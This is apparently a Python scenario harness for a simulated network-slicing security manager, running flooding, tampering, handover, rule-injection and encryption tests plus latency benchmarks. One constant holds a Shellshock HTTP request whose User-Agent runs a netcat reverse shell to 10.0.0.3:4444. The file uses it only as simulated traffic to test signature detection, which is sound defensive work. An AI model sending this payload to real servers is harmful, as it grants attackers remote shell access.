"""Scenario harness: wires the fabric, policies and the security manager into
reproducible attack runs and benchmarks.

Every run is a pure function of (scenario id, config, seed): time is virtual,
all randomness flows from the seed, and reports serialize canonically so two
identical runs produce byte-identical output.
"""

from __future__ import annotations

import hashlib
import json
import random
import statistics
from dataclasses import dataclass, field
from importlib import resources
from typing import Optional

from . import policy as pol
from . import security_functions as sf
from .controller import ManagerConfig, SecurityManager
from .fabric import (
    Delivered,
    Dropped,
    Fabric,
    FlowMod,
    FlowRule,
    FlowKey,
    Drop as DropAction,
    Packet,
    Provenance,
    Punted,
    apply_flow_mod,
    build_topology,
    inject_packet,
    measure_attestation,
)

SCENARIO_IDS = (
    "attack1",
    "attack2",
    "attack3",
    "attack4",
    "shellshock",
    "flowmod_audit",
    "fsf_path",
)

UE_MACS = {1: "00:09:00:AA", 2: "00:09:00:AC", 3: "00:09:00:AD", 4: "00:09:00:AE"}


def load_default_config(name: str):
    ref = resources.files("slice_sentinel.configs").joinpath(name)
    return json.loads(ref.read_text(encoding="utf-8"))


def _derive_seed(*parts) -> int:
    material = "|".join(str(p) for p in parts).encode()
    return int.from_bytes(hashlib.sha256(material).digest()[:8], "big")


# ---------------------------------------------------------------------------
# Reports
# ---------------------------------------------------------------------------

@dataclass
class ScenarioReport:
    scenario_id: str
    seed: int
    packets: dict
    alerts: list
    audits: list
    timings: dict
    verdict: bool
    details: dict = field(default_factory=dict)

    def to_dict(self) -> dict:
        return {
            "scenario_id": self.scenario_id,
            "seed": self.seed,
            "packets": self.packets,
            "alerts": self.alerts,
            "audits": self.audits,
            "timings": self.timings,
            "verdict": self.verdict,
            "details": self.details,
        }

    def to_json(self) -> str:
        return json.dumps(self.to_dict(), sort_keys=True, indent=2) + "\n"

    @classmethod
    def from_json(cls, text: str) -> "ScenarioReport":
        d = json.loads(text)
        return cls(
            scenario_id=d["scenario_id"], seed=d["seed"], packets=d["packets"],
            alerts=d["alerts"], audits=d["audits"], timings=d["timings"],
            verdict=d["verdict"], details=d.get("details", {}),
        )


@dataclass
class BenchReport:
    kind: str
    seed: int
    entries: list  # dict rows
    details: dict = field(default_factory=dict)

    def to_dict(self) -> dict:
        return {"kind": self.kind, "seed": self.seed, "entries": self.entries,
                "details": self.details}

    def to_json(self) -> str:
        return json.dumps(self.to_dict(), sort_keys=True, indent=2) + "\n"

    @classmethod
    def from_json(cls, text: str) -> "BenchReport":
        d = json.loads(text)
        return cls(kind=d["kind"], seed=d["seed"], entries=d["entries"],
                   details=d.get("details", {}))

    def to_csv(self) -> str:
        if self.kind == "flow-setup":
            header = "n,security,mean_ms,stdev_ms"
            rows = [
                f"{e['n']},{e['security']},{e['mean_ms']:.4f},{e['stdev_ms']:.4f}"
                for e in self.entries
            ]
        else:
            header = "n_signatures,mean_ms,stdev_ms"
            rows = [
                f"{e['n_signatures']},{e['mean_ms']:.6f},{e['stdev_ms']:.6f}"
                for e in self.entries
            ]
        return "\n".join([header] + rows) + "\n"


# ---------------------------------------------------------------------------
# World and traffic driving
# ---------------------------------------------------------------------------

@dataclass
class World:
    fabric: Fabric
    repository: pol.PolicyRepository
    manager: SecurityManager


def build_world(config: dict, seed: int, signatures: Optional[list] = None,
                manager_config: Optional[ManagerConfig] = None) -> World:
    topology = config.get("topology") or load_default_config("topology.json")
    policies = config.get("policies")
    if policies is None:
        policies = load_default_config("policies.json")
    if signatures is None:
        raw = config.get("signatures")
        if raw is None:
            raw = load_default_config("signatures.json")
        signatures = sf.parse_signatures(raw)
    fabric = build_topology(topology)
    repo = pol.load_policies(policies)
    manager = SecurityManager(
        fabric, repo, signatures=signatures,
        config=manager_config or ManagerConfig(), seed=seed,
    )
    return World(fabric=fabric, repository=repo, manager=manager)


class TrafficDriver:
    """Injects packets, relays punts to the manager, re-injects once, and
    keeps per-stream outcome accounting."""

    def __init__(self, world: World, blacklist_feedback: bool = True) -> None:
        self.world = world
        self.feedback = blacklist_feedback
        self.counts: dict[str, dict] = {}
        self.outcomes: list[dict] = []
        self.alerts: list[sf.Alert] = []
        self.setup_times_ms: dict[str, float] = {}
        self.blacklist_points: dict[str, int] = {}  # device -> packet sequence index
        self._sequence = 0

    def _bucket(self, stream: str) -> dict:
        return self.counts.setdefault(
            stream,
            {"injected": 0, "delivered": 0, "dropped_at_entry": 0,
             "dropped_in_slice": 0, "reasons": {}},
        )

    def _drain_controller(self) -> None:
        manager = self.world.manager
        fabric = self.world.fabric
        while fabric.punt_events:
            punt = fabric.punt_events.popleft()
            decision = manager.new_flow(punt)
            if decision.flow_id not in self.setup_times_ms:
                setup_us = decision.cost_us + manager.config.dispatch_us()
                self.setup_times_ms[decision.flow_id] = setup_us / 1000.0
        for alert in manager.pending_alerts:
            self.alerts.append(alert)
            if self.feedback:
                action = manager.alert(alert)
                if action.kind == "blacklisted":
                    self.blacklist_points.setdefault(alert.device_id, self._sequence)
        manager.pending_alerts.clear()

    def send(self, packet: Packet, ingress: tuple[str, int], stream: str):
        fabric = self.world.fabric
        self._sequence += 1
        bucket = self._bucket(stream)
        bucket["injected"] += 1

        trace = inject_packet(fabric, packet, ingress)
        self._drain_controller()
        if isinstance(trace.outcome, Punted):
            trace = inject_packet(fabric, packet, ingress)
            self._drain_controller()

        outcome = trace.outcome
        if isinstance(outcome, Delivered):
            bucket["delivered"] += 1
            category = "delivered"
            reason = None
        elif isinstance(outcome, Dropped):
            entry = outcome.node == ingress[0]
            category = "dropped_at_entry" if entry else "dropped_in_slice"
            bucket[category] += 1
            reason = outcome.reason
            bucket["reasons"][reason] = bucket["reasons"].get(reason, 0) + 1
        else:  # a re-punt: no controller resolution for this flow
            bucket["dropped_at_entry"] += 1
            category = "dropped_at_entry"
            reason = "unresolved-punt"
            bucket["reasons"][reason] = bucket["reasons"].get(reason, 0) + 1
        self.outcomes.append(
            {"seq": self._sequence, "stream": stream, "category": category,
             "reason": reason, "time_ms": packet.virtual_timestamp}
        )
        return trace

    def packet_totals(self) -> dict:
        totals = {"injected": 0, "delivered": 0, "dropped_at_entry": 0, "dropped_in_slice": 0}
        for bucket in self.counts.values():
            for key in totals:
                totals[key] += bucket[key]
        spread = totals["delivered"] + totals["dropped_at_entry"] + totals["dropped_in_slice"]
        assert totals["injected"] == spread, "packet accounting identity violated"
        assert not self.world.fabric.punt_events, "packets still in flight"
        return totals

    def stream_counts(self) -> dict:
        return {
            stream: {k: (dict(sorted(v.items())) if isinstance(v, dict) else v)
                     for k, v in sorted(bucket.items())}
            for stream, bucket in sorted(self.counts.items())
        }


def _schedule(rate_interval_ms: int, count: int, start_ms: int = 0) -> list[int]:
    return [start_ms + i * rate_interval_ms for i in range(count)]


def _merged(*streams) -> list[tuple[int, int, str, Packet, tuple[str, int]]]:
    """Merge (times, packet factory) streams into one deterministic order."""
    events = []
    for order, (name, times, factory, ingress) in enumerate(streams):
        for i, t in enumerate(times):
            events.append((t, order, i, name, factory(i, t), ingress))
    events.sort(key=lambda e: (e[0], e[1], e[2]))
    return [(t, i, name, packet, ingress) for t, _o, i, name, packet, ingress in events]


def _alerts_to_dicts(alerts: list[sf.Alert]) -> list[dict]:
    return [a.to_dict() for a in alerts]


# ---------------------------------------------------------------------------
# Attack scenarios
# ---------------------------------------------------------------------------

def _benign_factory(seed: int):
    def factory(i: int, t: int) -> Packet:
        return Packet(
            src_ip="10.0.0.1", dst_ip="10.0.0.8", src_mac=UE_MACS[1],
            dst_mac="00:09:00:BB", payload=f"telemetry-{seed}-{i}".encode(),
            flow_id="flow-benign", virtual_timestamp=t,
        )
    return factory


def _run_benign_control(config: dict, seed: int, n_benign: int, interval_ms: int) -> int:
    world = build_world(config, seed)
    driver = TrafficDriver(world)
    factory = _benign_factory(seed)
    for i, t in enumerate(_schedule(interval_ms, n_benign)):
        driver.send(factory(i, t), ("OVS1", 1), "benign")
    return driver.counts["benign"]["delivered"]


def _scenario_attack1(config: dict, seed: int) -> ScenarioReport:
    n_attack = int(config.get("attack_packets", 1000))
    n_benign = int(config.get("benign_packets", 50))
    benign_interval = int(config.get("benign_interval_ms", 20))
    attack_interval = int(config.get("attack_interval_ms", 1))  # 10x the rate cap

    control_delivered = _run_benign_control(config, seed, n_benign, benign_interval)

    world = build_world(config, seed)
    driver = TrafficDriver(world, blacklist_feedback=config.get("blacklist_feedback", True))

    def attacker(i: int, t: int) -> Packet:
        return Packet(
            src_ip="10.0.0.3", dst_ip="10.0.0.8", src_mac=UE_MACS[3],
            dst_mac="00:09:00:BB", payload=f"flood-{seed}-{i}".encode(),
            flow_id="flow-printer-flood", virtual_timestamp=t,
        )

    events = _merged(
        ("attacker", _schedule(attack_interval, n_attack), attacker, ("OVS1", 3)),
        ("benign", _schedule(benign_interval, n_benign), _benign_factory(seed), ("OVS1", 1)),
    )
    for _t, _i, stream, packet, ingress in events:
        driver.send(packet, ingress, stream)

    attacker_bucket = driver.counts["attacker"]
    benign_bucket = driver.counts["benign"]
    unauthorized_drops = attacker_bucket["reasons"].get("deny-unauthorized", 0)
    verdict = (
        attacker_bucket["delivered"] == 0
        and attacker_bucket["dropped_at_entry"] == n_attack
        and unauthorized_drops == n_attack
        and benign_bucket["delivered"] == control_delivered
    )
    return ScenarioReport(
        scenario_id="attack1",
        seed=seed,
        packets=driver.packet_totals(),
        alerts=_alerts_to_dicts(driver.alerts),
        audits=[],
        timings={"flow_setup_ms": dict(sorted(driver.setup_times_ms.items()))},
        verdict=verdict,
        details={
            "streams": driver.stream_counts(),
            "control_benign_delivered": control_delivered,
            "unauthorized_drops": unauthorized_drops,
        },
    )


def _scenario_attack2(config: dict, seed: int) -> ScenarioReport:
    n_attack = int(config.get("attack_packets", 600))
    n_benign = int(config.get("benign_packets", 50))
    benign_interval = int(config.get("benign_interval_ms", 20))
    attack_interval = int(config.get("attack_interval_ms", 1))
    feedback = bool(config.get("blacklist_feedback", True))

    control_delivered = _run_benign_control(config, seed, n_benign, benign_interval)

    world = build_world(config, seed)
    window_ms = world.manager.config.anomaly_window_ms
    driver = TrafficDriver(world, blacklist_feedback=feedback)

    def attacker(i: int, t: int) -> Packet:
        return Packet(
            src_ip="10.0.0.4", dst_ip="10.0.0.8", src_mac=UE_MACS[4],
            dst_mac="00:09:00:BB", payload=f"burst-{seed}-{i}".encode(),
            flow_id="flow-sensor-flood", virtual_timestamp=t,
        )

    events = _merged(
        ("attacker", _schedule(attack_interval, n_attack), attacker, ("OVS1", 4)),
        ("benign", _schedule(benign_interval, n_benign), _benign_factory(seed), ("OVS1", 1)),
    )
    for _t, _i, stream, packet, ingress in events:
        driver.send(packet, ingress, stream)

    sensor_alerts = [a for a in driver.alerts if a.device_id == UE_MACS[4]]
    blacklist_seq = driver.blacklist_points.get(UE_MACS[4])
    post = [o for o in driver.outcomes
            if o["stream"] == "attacker" and blacklist_seq is not None and o["seq"] > blacklist_seq]
    post_dropped_entry = sum(1 for o in post if o["category"] == "dropped_at_entry")
    post_delivered = sum(1 for o in post if o["category"] == "delivered")
    single_alert_in_window = (
        len(sensor_alerts) == 1 and sensor_alerts[0].time_ms <= window_ms
    )
    verdict = (
        single_alert_in_window
        and blacklist_seq is not None
        and len(post) > 0
        and post_delivered == 0
        and post_dropped_entry >= 0.99 * len(post)
        and driver.counts["benign"]["delivered"] == control_delivered
    )
    return ScenarioReport(
        scenario_id="attack2",
        seed=seed,
        packets=driver.packet_totals(),
        alerts=_alerts_to_dicts(driver.alerts),
        audits=[],
        timings={"flow_setup_ms": dict(sorted(driver.setup_times_ms.items()))},
        verdict=verdict,
        details={
            "streams": driver.stream_counts(),
            "control_benign_delivered": control_delivered,
            "alerts_for_device": len(sensor_alerts),
            "post_blacklist_packets": len(post),
            "post_blacklist_dropped_at_entry": post_dropped_entry,
            "post_blacklist_delivered": post_delivered,
        },
    )


def _scenario_attack3(config: dict, seed: int) -> ScenarioReport:
    tampered = set(config.get("tampered_hosts", ["SVC3"]))
    world = build_world(config, seed)
    for node_id in tampered:
        world.fabric.set_tampered(node_id, True)
    manager = world.manager

    hosts = sorted(
        n.node_id for n in world.fabric.nodes.values() if n.kind.value == "host"
    )
    results = {}
    for host in hosts:
        outcome = manager.deploy_service_gated(host, f"service@{host}")
        results[host] = {"deployed": outcome.deployed, "verdict": outcome.verdict.value}

    refused = {h for h, r in results.items() if not r["deployed"]}
    granted = {h for h, r in results.items() if r["deployed"]}

    # Replay: an old report never satisfies a fresh challenge.
    probe = hosts[0]
    old_report = measure_attestation(world.fabric, probe, b"\x01" * 16)
    replay_verdict = sf.validate_attestation(
        world.fabric.nodes[probe].expected_hash, old_report, b"\x02" * 16
    )

    verdict = (
        refused == tampered
        and granted == set(hosts) - tampered
        and replay_verdict == sf.TrustVerdict.STALE_NONCE
    )
    return ScenarioReport(
        scenario_id="attack3",
        seed=seed,
        packets={"injected": 0, "delivered": 0, "dropped_at_entry": 0, "dropped_in_slice": 0},
        alerts=[],
        audits=[],
        timings={},
        verdict=verdict,
        details={
            "hosts": results,
            "tampered": sorted(tampered),
            "refused": sorted(refused),
            "replay_verdict": replay_verdict.value,
            "admin_alerts": manager.admin_alerts,
        },
    )


def _scenario_attack4(config: dict, seed: int) -> ScenarioReport:
    topo = config.get("topology") or load_default_config("topology_handover.json")
    config = {**config, "topology": topo}
    n_post = int(config.get("post_handover_packets", 20))
    world = build_world(config, seed)
    fabric, manager = world.fabric, world.manager
    driver = TrafficDriver(world)

    def ue1(i: int, t: int) -> Packet:
        return Packet(
            src_ip="10.0.0.1", dst_ip="10.0.0.8", src_mac=UE_MACS[1],
            dst_mac="00:09:00:BB", payload=f"stream-{i}".encode(),
            flow_id="flow-ue1", virtual_timestamp=t,
        )

    for i, t in enumerate(_schedule(10, 10)):
        driver.send(ue1(i, t), ("OVS1", 1), "pre-handover")

    pairs_before = frozenset(manager.deployments["OVS1"].access.allowed[UE_MACS[1]])
    extractions_before = len(manager.log.events(pol.EV_PROFILE_EXTRACTED))
    handover = manager.handover(UE_MACS[1], "OVS1", "OVS2")
    extractions_during = len(manager.log.events(pol.EV_PROFILE_EXTRACTED)) - extractions_before
    pairs_after = frozenset(manager.deployments["OVS2"].access.allowed.get(UE_MACS[1], set()))

    new_port = fabric.port_toward("OVS2", "UE1")
    for i, t in enumerate(_schedule(10, n_post, start_ms=200)):
        driver.send(ue1(100 + i, t), ("OVS2", new_port), "post-handover")

    # A blacklisted device must stay blocked across a handover.
    driver.send(
        Packet(src_ip="10.0.0.4", dst_ip="10.0.0.8", src_mac=UE_MACS[4],
               dst_mac="00:09:00:BB", payload=b"pre", flow_id="flow-ue4",
               virtual_timestamp=400),
        ("OVS1", 4), "sensor-pre",
    )
    manager.alert(
        sf.Alert("flow-validator", UE_MACS[4], "flow-ue4", "anomaly:rate", "high", 401)
    )
    sensor_move = manager.handover(UE_MACS[4], "OVS1", "OVS2")
    sensor_port = fabric.port_toward("OVS2", "UE4")
    for i, t in enumerate(_schedule(5, 10, start_ms=450)):
        driver.send(
            Packet(src_ip="10.0.0.4", dst_ip="10.0.0.8", src_mac=UE_MACS[4],
                   dst_mac="00:09:00:BB", payload=f"post-{i}".encode(),
                   flow_id="flow-ue4", virtual_timestamp=t),
            ("OVS2", sensor_port), "sensor-post",
        )

    post_bucket = driver.counts["post-handover"]
    sensor_post = driver.counts["sensor-post"]
    verdict = (
        pairs_after == pairs_before
        and extractions_during == 0
        and post_bucket["delivered"] == n_post
        and sensor_move.blacklisted is True
        and sensor_post["delivered"] == 0
    )
    return ScenarioReport(
        scenario_id="attack4",
        seed=seed,
        packets=driver.packet_totals(),
        alerts=_alerts_to_dicts(driver.alerts),
        audits=[],
        timings={"flow_setup_ms": dict(sorted(driver.setup_times_ms.items()))},
        verdict=verdict,
        details={
            "streams": driver.stream_counts(),
            "authorizations_before": sorted(map(list, pairs_before)),
            "authorizations_after": sorted(map(list, pairs_after)),
            "extractions_during_handover": extractions_during,
            "rules_reanchored": handover.rules_reanchored,
            "sensor_blacklist_carried": sensor_move.blacklisted,
        },
    )


SHELLSHOCK_EXPLOIT = (
    b"GET /cgi-bin/status HTTP/1.1\r\n"
    b"Host: service1\r\n"
    b"User-Agent: () { :;}; /bin/nc -e /bin/sh 10.0.0.3 4444\r\n\r\n"
)


def _scenario_shellshock(config: dict, seed: int) -> ScenarioReport:
    def exploit(i: int, t: int) -> Packet:
        return Packet(
            src_ip="10.0.0.1", dst_ip="10.0.0.8", src_mac=UE_MACS[1],
            dst_mac="00:09:00:BB", payload=SHELLSHOCK_EXPLOIT,
            flow_id="flow-exploit", virtual_timestamp=t,
        )

    # Arm A: the configured signature set is live.
    world = build_world(config, seed)
    driver = TrafficDriver(world)
    n_exploit = int(config.get("exploit_packets", 5))
    for i, t in enumerate(_schedule(10, n_exploit)):
        driver.send(exploit(i, t), ("OVS1", 1), "exploit")
    armed = driver.counts["exploit"]
    signature_drops = armed["reasons"].get("signature:sig-shellshock", 0)

    # Arm B: identical run with an empty signature set; the payload sails through.
    control_world = build_world({**config, "signatures": []}, seed)
    control_driver = TrafficDriver(control_world)
    for i, t in enumerate(_schedule(10, n_exploit)):
        control_driver.send(exploit(i, t), ("OVS1", 1), "exploit")
    control = control_driver.counts["exploit"]

    isolated = UE_MACS[1] in world.manager.global_blacklist
    verdict = (
        armed["delivered"] == 0
        and signature_drops >= 1
        and armed["dropped_at_entry"] == n_exploit
        and isolated
        and control["delivered"] == n_exploit
    )
    return ScenarioReport(
        scenario_id="shellshock",
        seed=seed,
        packets=driver.packet_totals(),
        alerts=_alerts_to_dicts(driver.alerts),
        audits=[],
        timings={"flow_setup_ms": dict(sorted(driver.setup_times_ms.items()))},
        verdict=verdict,
        details={
            "streams": driver.stream_counts(),
            "signature_drops": signature_drops,
            "attacker_isolated": isolated,
            "control_delivered": control["delivered"],
        },
    )


def _scenario_flowmod_audit(config: dict, seed: int) -> ScenarioReport:
    world = build_world(config, seed)
    fabric, manager = world.fabric, world.manager
    driver = TrafficDriver(world)
    for i, t in enumerate(_schedule(10, 5)):
        driver.send(_benign_factory(seed)(i, t), ("OVS1", 1), "benign")

    injected_id = config.get("injected_rule_id", "atk-3346")
    injected = FlowRule(
        rule_id=injected_id,
        match=FlowKey(src_ip="10.0.0.66", dst_ip="10.0.0.8"),
        action=DropAction(),
        priority=77,
    )
    apply_flow_mod(fabric, "OVS1", FlowMod.add(injected), Provenance.EXTERNAL)

    first = manager.audit_now("OVS1")
    second = manager.audit_now("OVS1")

    verdict = (
        not first.clean
        and [r.rule_id for r in first.extra_rules] == [injected_id]
        and first.missing_rules == ()
        and first.modified_rules == ()
        and second.clean
    )
    return ScenarioReport(
        scenario_id="flowmod_audit",
        seed=seed,
        packets=driver.packet_totals(),
        alerts=_alerts_to_dicts(driver.alerts),
        audits=[first.to_dict(), second.to_dict()],
        timings={"flow_setup_ms": dict(sorted(driver.setup_times_ms.items()))},
        verdict=verdict,
        details={
            "streams": driver.stream_counts(),
            "injected_rule_id": injected_id,
            "restored": second.clean,
            "admin_alerts": manager.admin_alerts,
        },
    )


def _scenario_fsf_path(config: dict, seed: int) -> ScenarioReport:
    world = build_world(config, seed)
    fabric, manager = world.fabric, world.manager
    driver = TrafficDriver(world)

    plaintexts = [f"meter-reading-{seed}-{i}".encode() for i in range(int(config.get("packets", 10)))]

    def secured(i: int, t: int) -> Packet:
        return Packet(
            src_ip="10.0.0.2", dst_ip="10.0.0.7", src_mac=UE_MACS[2],
            dst_mac="00:09:00:BC", payload=plaintexts[i],
            flow_id="flow-scada", virtual_timestamp=t,
        )

    driver.send(secured(0, 0), ("OVS1", 2), "secured")
    key_id = manager.provision_security("flow-scada")

    mid_clean = True
    delivered_intact = True
    for i in range(1, len(plaintexts)):
        trace = driver.send(secured(i, i * 10), ("OVS1", 2), "secured")
        links = trace.link_events()
        for event in links:
            between = event.node == "OVS1" and event.detail["to"] == "CORE1"
            if between:
                if plaintexts[i] in event.payload or not event.detail["encrypted"]:
                    mid_clean = False
            if event.detail["to"] == "SVC2" and event.payload != plaintexts[i]:
                delivered_intact = False
        if not isinstance(trace.outcome, Delivered):
            delivered_intact = False

    secured_bucket = driver.counts["secured"]
    verdict = (
        mid_clean
        and delivered_intact
        and secured_bucket["delivered"] == len(plaintexts)
        and fabric.flow_ciphers.get("OVS1", {}).get("flow-scada", (None,))[0] == "encrypt"
        and fabric.flow_ciphers.get("CORE1", {}).get("flow-scada", (None,))[0] == "decrypt"
    )
    return ScenarioReport(
        scenario_id="fsf_path",
        seed=seed,
        packets=driver.packet_totals(),
        alerts=_alerts_to_dicts(driver.alerts),
        audits=[],
        timings={"flow_setup_ms": dict(sorted(driver.setup_times_ms.items()))},
        verdict=verdict,
        details={
            "streams": driver.stream_counts(),
            "key_id": key_id,
            "mid_path_ciphertext_only": mid_clean,
            "delivered_payloads_intact": delivered_intact,
        },
    )


_SCENARIOS = {
    "attack1": _scenario_attack1,
    "attack2": _scenario_attack2,
    "attack3": _scenario_attack3,
    "attack4": _scenario_attack4,
    "shellshock": _scenario_shellshock,
    "flowmod_audit": _scenario_flowmod_audit,
    "fsf_path": _scenario_fsf_path,
}


def run_scenario(scenario_id: str, config: Optional[dict] = None, seed: int = 0) -> ScenarioReport:
    """Run one scenario to a deterministic, self-judging report."""
    if scenario_id not in _SCENARIOS:
        raise ValueError(f"unknown scenario {scenario_id!r}; pick one of {SCENARIO_IDS}")
    return _SCENARIOS[scenario_id](dict(config or {}), seed)


# ---------------------------------------------------------------------------
# Benchmarks
# ---------------------------------------------------------------------------

def _fleet_documents(n_gnodebs: int) -> tuple[dict, list]:
    nodes = [
        {"id": "COREB", "kind": "core"},
        {"id": "SVCB", "kind": "host", "ip": "10.9.0.1"},
    ]
    links = [{"a": "COREB", "b": "SVCB", "latency_ms": 1}]
    slices = [{"vlan": 100, "name": "bench", "hosts": ["SVCB"]}]
    policies = []
    for i in range(n_gnodebs):
        edge = f"E{i:04d}"
        ue = f"U{i:04d}"
        ip = f"10.{1 + i // 250}.{(i % 250)}.2"
        nodes.append({"id": edge, "kind": "edge"})
        nodes.append({"id": ue, "kind": "host", "ip": ip})
        links.append({"a": ue, "b": edge, "latency_ms": 1})
        links.append({"a": edge, "b": "COREB", "latency_ms": 1})
        policies.append(
            {
                "id": f"p{i:04d}",
                "hostip": ip,
                "hostmac": f"02:00:00:{i:04d}",
                "destip": "10.9.0.1",
                "user": {"id": f"user-{i:04d}", "name": f"user-{i:04d}",
                         "role": "Personal-Role", "organization": ""},
                "contract_id": f"c{i:04d}",
                "actions": [{"Service": "BenchService", "Slice-id": "VLAN100"}],
            }
        )
    topology = {"nodes": nodes, "links": links, "slices": slices}
    return topology, policies


def _flow_setup_run(n: int, security_on: bool, run_seed: int,
                    manager_config: ManagerConfig, jitter_us: int = 500) -> list[float]:
    """One fleet round: every gNodeB punts its first flow at t=0 and the
    controller serves the queue in order.  Returns per-flow setup times (ms)."""
    topology, policies = _fleet_documents(n)
    fabric = build_topology(topology)
    repo = pol.load_policies(policies)
    cfg = ManagerConfig(**{**manager_config.__dict__, "security_enabled": security_on})
    manager = SecurityManager(fabric, repo, signatures=[], config=cfg, seed=run_seed)

    for i in range(n):
        packet = Packet(
            src_ip=f"10.{1 + i // 250}.{(i % 250)}.2", dst_ip="10.9.0.1",
            src_mac=f"02:00:00:{i:04d}", dst_mac="0e:00:00:01",
            payload=b"first", flow_id=f"bench-{i:04d}", virtual_timestamp=0,
        )
        inject_packet(fabric, packet, (f"E{i:04d}", 1))

    jitter = random.Random(run_seed)
    one_way_us = cfg.dispatch_us()
    available_us = 0.0
    setups_ms = []
    punts = list(fabric.punt_events)
    fabric.punt_events.clear()
    for punt in punts:
        decision = manager.new_flow(punt)
        service_us = decision.cost_us - one_way_us + (jitter.randint(0, jitter_us) if jitter_us else 0)
        arrival_us = punt.time_ms * 1000 + one_way_us
        start_us = max(arrival_us, available_us)
        completion_us = start_us + service_us
        available_us = completion_us
        setups_ms.append((completion_us + one_way_us - punt.time_ms * 1000) / 1000.0)
    return setups_ms


def bench_flow_setup(
    sizes=(100, 200, 300, 400, 500),
    security: str = "both",
    runs: int = 10,
    seed: int = 0,
    manager_config: Optional[ManagerConfig] = None,
    jitter_us: int = 500,
) -> BenchReport:
    """Average flow setup time versus fleet size, with and without the
    security functions in the setup path."""
    if runs < 1:
        raise ValueError("runs must be >= 1")
    if security not in ("on", "off", "both"):
        raise ValueError(f"security must be on, off or both, got {security!r}")
    modes = {"on": [True], "off": [False], "both": [False, True]}[security]
    base_config = manager_config or ManagerConfig()
    entries = []
    samples: dict[str, list[float]] = {}
    for n in sizes:
        if n < 1:
            raise ValueError("fleet size must be >= 1")
        for mode in modes:
            run_means = []
            for run in range(runs):
                # identical jitter draws for on and off at the same (seed, n, run)
                run_seed = _derive_seed(seed, n, run)
                setups = _flow_setup_run(n, mode, run_seed, base_config, jitter_us)
                run_means.append(statistics.fmean(setups))
            label = "on" if mode else "off"
            mean_ms = statistics.fmean(run_means)
            stdev_ms = statistics.stdev(run_means) if len(run_means) > 1 else 0.0
            entries.append(
                {"n": n, "security": label, "mean_ms": mean_ms, "stdev_ms": stdev_ms,
                 "runs": runs}
            )
            samples[f"{n}/{label}"] = run_means
    return BenchReport(kind="flow-setup", seed=seed, entries=entries,
                       details={"run_means_ms": samples})


def bench_signature_latency(
    counts=(0, 10, 100, 1000),
    runs: int = 10,
    packets: int = 100,
    seed: int = 0,
    manager_config: Optional[ManagerConfig] = None,
) -> BenchReport:
    """Mean per-packet validation latency versus signature set size under the
    linear first-match scan."""
    cfg = manager_config or ManagerConfig()
    entries = []
    for n in counts:
        run_means = []
        for run in range(runs):
            rng = random.Random(_derive_seed(seed, n, run))
            signatures = [
                # 0xF0.. bytes never appear in the ASCII payloads below
                sf.Signature(f"s{j:05d}", bytes([0xF0 + rng.randint(0, 14) for _ in range(8)]))
                for j in range(n)
            ]
            state = sf.FlowValidatorState(
                node="bench", signatures=signatures, threshold=10**9
            )
            costs_us = []
            for p in range(packets):
                packet = Packet(
                    src_ip="10.0.0.1", dst_ip="10.0.0.8", src_mac="aa", dst_mac="bb",
                    payload=f"benign-{run}-{p}".encode(), flow_id="bench",
                    virtual_timestamp=p,
                )
                result = sf.validate_flow(state, packet)
                costs_us.append(
                    cfg.flow_validation_base_us
                    + result.signatures_scanned * cfg.signature_scan_us
                )
            run_means.append(statistics.fmean(costs_us) / 1000.0)
        entries.append(
            {
                "n_signatures": n,
                "mean_ms": statistics.fmean(run_means),
                "stdev_ms": statistics.stdev(run_means) if len(run_means) > 1 else 0.0,
                "runs": runs,
            }
        )
    baseline_ms = cfg.flow_validation_base_us / 1000.0
    return BenchReport(
        kind="signatures", seed=seed, entries=entries,
        details={"baseline_ms": baseline_ms, "packets_per_run": packets},
    )
